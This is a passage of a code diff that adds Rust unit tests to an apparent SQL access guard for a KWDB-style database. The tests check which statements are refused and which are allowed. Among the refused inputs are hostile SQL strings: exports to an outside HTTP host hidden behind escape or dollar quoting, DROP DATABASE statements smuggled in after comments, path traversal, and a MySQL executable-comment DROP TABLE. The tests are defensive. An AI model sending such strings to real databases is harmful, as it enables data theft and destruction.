+            "SHOW JOBS SELECT id FROM t",
+            "SHOW JOBS (SELECT crdb_internal.force_panic('x'))",
+            "SHOW JOBS WHEN COMPLETE [SELECT 1]",
+            "EXPORT INTO CSV 'nodelocal://1/e' FROM SELECT crdb_internal.force_panic('x')",
+        ] {
+            let refusal = kwdb(sql);
+            assert!(refusal.is_err(), "{sql}: {refusal:?}");
+        }
+        assert!(
+            kwdb("SET CLUSTER SETTING a = 1")
+                .err()
+                .is_some_and(|e| e.to_string().contains("cluster settings")),
+        );
+        // What the bundled KWDB adapter sends still passes.
+        for (sql, access) in [
+            ("SELECT version()", Access::Read),
+            ("SHOW DATABASES", Access::Read),
+            ("SHOW JOBS", Access::Read),
+            (
+                "SELECT sum((metrics->>'ranges.unavailable')::DECIMAL)::INT, sum((metrics->>'ranges.underreplicated')::DECIMAL)::INT FROM kwdb_internal.kv_store_status",
+                Access::Read,
+            ),
+            ("SELECT count(*) FROM shop.orders", Access::Read),
+            (
+                "EXPORT INTO CSV \"nodelocal://1/upshift/export-1/shop\" FROM DATABASE shop WITH privileges, comment",
+                Access::Backup,
+            ),
+            (
+                "EXPORT USERS TO SQL \"nodelocal://1/upshift/export-1/users\"",
+                Access::Backup,
+            ),
+            (
+                "EXPORT CLUSTER SETTING TO SQL \"nodelocal://1/upshift/export-1/settings\"",
+                Access::Backup,
+            ),
+            (
+                "IMPORT DATABASE CSV DATA (\"nodelocal://1/upshift/export-1/shop\") WITH privileges",
+                Access::Restore,
+            ),
+            (
+                "IMPORT CLUSTER SETTING SQL DATA (\"nodelocal://1/upshift/export-1/settings/clustersetting.sql\")",
+                Access::Restore,
+            ),
+        ] {
+            assert_eq!(kwdb(sql), Ok(access), "{sql}");
+        }
+        assert_eq!(kwdb("SELECT ARRAY[1, 2][1]"), Ok(Access::Read));
+    }
+
+    #[test]
+    fn kwdb_export_paths_cannot_hide_behind_escapes_comments_or_parameters() {
+        for sql in [
+            // The real target is an escape string; a harmless option carries the checked path.
+            "EXPORT INTO CSV e'http\\x3a//10.0.0.9:8000/x' FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
+            "EXPORT INTO CSV U&'http\\003a//10.0.0.9/x' FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
+            "EXPORT INTO CSV $$http://10.0.0.9/x$$ FROM DATABASE shop",
+            "EXPORT INTO CSV $1 FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
+            // A quote inside a comment does not hide a second statement.
+            "EXPORT INTO CSV 'nodelocal://1/ok' FROM DATABASE shop -- \"\n; DROP DATABASE shop; --\"",
+            "EXPORT INTO CSV 'nodelocal://1/ok' FROM DATABASE shop /* ' */; DROP DATABASE shop",
+            "EXPORT INTO CSV 'nodelocal://1/../../etc' FROM DATABASE shop",
+            "EXPORT INTO CSV 'nodelocal://1/ok\\..\\..' FROM DATABASE shop",
+        ] {
+            assert!(kwdb(sql).is_err(), "{sql}: {:?}", kwdb(sql));
+        }
+        assert_eq!(
+            kwdb(
+                "/* a comment */ EXPORT INTO CSV 'nodelocal://1/e/shop' FROM DATABASE shop WITH delimiter = ';'"
+            ),
+            Ok(Access::Backup)
+        );
+    }
+
     #[test]
     fn fingerprints_drop_literals_and_comments() {
         let a = fingerprint(Engine::Postgres, "SELECT * FROM t WHERE id = 1");
@@ -1061,6 +1659,11 @@ mod tests {
         assert_eq!(
             fingerprint(Engine::Postgres, r#"SELECT U&"pg_slee\0070"(1)"#).text,
             r#"select "pg_sleep" ( ? )"#
+        );
+        // MySQL: an executable comment is marked, its content not kept.
+        assert_eq!(
+            fingerprint(Engine::MySql, "/*!DROP TABLE victim*/ SELECT 1 /* plain */").text,
+            "/*!…*/ select ?"
         );
         let long = format!("SELECT {}", "a, ".repeat(1000) + "b");
         let audit = fingerprint(Engine::Postgres, &long).audit("read");
